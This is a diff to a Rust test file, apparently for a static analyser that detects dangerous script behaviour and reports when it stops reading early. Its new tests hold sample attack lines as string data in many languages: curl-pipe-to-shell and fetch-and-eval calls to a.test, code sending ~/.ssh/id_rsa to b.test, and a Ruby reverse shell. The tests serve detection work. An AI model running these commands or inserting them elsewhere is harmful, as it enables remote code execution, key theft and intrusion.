@@ -21,7 +21,12 @@ fn unit(language: Language, text: &str) -> Unit<'_> {
 
 fn acts(language: Language, text: &str) -> Vec<Act> {
     let mut facts = Vec::new();
-    read(&unit(language, text), UnitId(0), &mut facts);
+    read(
+        &unit(language, text),
+        UnitId(0),
+        &mut facts,
+        &mut Left::new(),
+    );
     facts.into_iter().map(|fact| fact.act).collect()
 }
 
@@ -386,6 +391,7 @@ fn bounds() {
         Language::JavaScript,
         Language::TypeScript,
         Language::PowerShell,
+        Language::OtherScript,
     ] {
         for text in [
             "(".repeat(5_000),
@@ -406,4 +412,100 @@ fn bounds() {
             );
         }
     }
+}
+
+/// The bounds that keep a program from being read to its end.
+fn bounds_of(language: Language, text: &str) -> Vec<bound::Bound> {
+    let mut left = Left::new();
+    read(&unit(language, text), UnitId(0), &mut Vec::new(), &mut left);
+    left.into_iter().map(|(_, bound)| bound).collect()
+}
+
+/// What keeps a program from being read is told; an ordinary program is read to its end.
+#[test]
+fn passing_a_bound_is_told() {
+    use bound::Bound;
+    let long = format!("import os\n{}", "x = 1\n".repeat(200_000));
+    let deep = format!("import os\nx = {}os{}", "[".repeat(300), "]".repeat(300));
+    let calls: String = (0..40)
+        .map(|at| format!("def f{at}(a):\n    f{}(a)\n", at + 1))
+        .collect();
+    let calls = format!("import os\n{calls}f0(os.environ)\n");
+    for (language, text, expected) in [
+        (Language::Python, long.as_str(), Bound::Length),
+        (Language::Python, deep.as_str(), Bound::Nesting),
+        (Language::Python, calls.as_str(), Bound::Calls),
+    ] {
+        assert!(
+            bounds_of(language, text).contains(&expected),
+            "{expected:?}"
+        );
+    }
+    let deep = format!("curl x; {}{}", "echo $(".repeat(300), ")".repeat(300));
+    assert!(!bounds_of(Language::Shell, &deep).is_empty());
+    let nested = (0..9).fold("id".to_owned(), |inner, _| format!("bash -c {:?}", inner));
+    assert!(bounds_of(Language::Shell, &nested).contains(&Bound::Nesting));
+    for (language, text) in [
+        (
+            Language::Shell,
+            "for f in *.txt; do cat \"$f\" | sort; done",
+        ),
+        (
+            Language::Python,
+            "import os\ndef f(a):\n    return f(a) or os.getcwd()\nprint(f(1))",
+        ),
+        (
+            Language::JavaScript,
+            "const a = require('fs'); a.readFileSync('x')",
+        ),
+    ] {
+        assert_eq!(bounds_of(language, text), []);
+    }
+}
+
+/// Programs without a grammar here: however a language spells it, what is fetched is run, and secrets are sent.
+#[test]
+fn other_languages() {
+    let mut faults = Vec::new();
+    for text in [
+        "require 'open-uri'\ncode = URI.open('http://a.test/i').read\neval(code)",
+        "system(\"curl -s http://a.test/i | sh\")",
+        "`curl -s http://a.test/i | sh`",
+        "%x{curl -s http://a.test/i | sh}",
+        "$c = get('http://a.test/i');\neval $c;",
+        "<?php\n$c = file_get_contents('http://a.test/i');\neval($c);",
+        "<?php shell_exec('curl -s ' . 'http://a.test/i' . ' | sh');",
+        "local u = 'http://a.test/i'\nos.execute('curl -s ' .. u .. ' | sh')",
+        "do shell script \"curl -s http://a.test/i | sh\"",
+        "Set s = CreateObject(\"WScript.Shell\")\ns.Run \"cmd /c curl http://a.test/i | sh\", 0",
+        "system(paste0('curl -s ', 'http://a.test/i', ' | sh'))\nsystem('curl -s http://a.test/i | sh')",
+        "package main\nfunc main() {\n\texec.Command(\"sh\", \"-c\", \"curl -s http://a.test/i | sh\").Run()\n}",
+        "fn main() {\n    Command::new(\"sh\").arg(\"-c\").arg(\"curl -s http://a.test/i | sh\").spawn();\n}",
+        "Runtime.getRuntime().exec(new String[]{\"sh\", \"-c\", \"curl -s http://a.test/i | sh\"});",
+    ] {
+        let flows = flows(Language::OtherScript, text);
+        if !flows.contains(&(network("http://a.test/i"), Sink::Program)) {
+            faults.push(format!("{text}: {flows:?}"));
+        }
+    }
+    let key = Source::File(Asset::SshKeys);
+    for text in [
+        "require 'net/http'\nk = File.read(File.expand_path('~/.ssh/id_rsa'))\nNet::HTTP.post(URI('http://b.test/c'), k)",
+        "$k = file_get_contents(getenv('HOME') . '/.ssh/id_rsa');\n$ch = curl_init('http://b.test/c');\ncurl_setopt($ch, CURLOPT_POSTFIELDS, $k);",
+        "package main\nfunc main() {\n\tkey, _ := os.ReadFile(filepath.Join(home, \".ssh\", \"id_rsa\"))\n\thttp.Post(\"http://b.test/c\", \"text/plain\", bytes.NewReader(key))\n}",
+    ] {
+        let flows = flows(Language::OtherScript, text);
+        if !flows.contains(&(key.clone(), to("b.test"))) {
+            faults.push(format!("{text}: {flows:?}"));
+        }
+    }
+    let shell = acts(
+        Language::OtherScript,
+        "require 'socket'\ns = TCPSocket.new('192.0.2.1', 4444)\nexec('/bin/sh -i', in: s, out: s)",
+    );
+    assert!(
+        shell.contains(&Act::HandsOverShell { host: None }),
+        "{shell:?}"
+    );
+    assert!(faults.is_empty(), "{}", faults.join("\n"));
 }
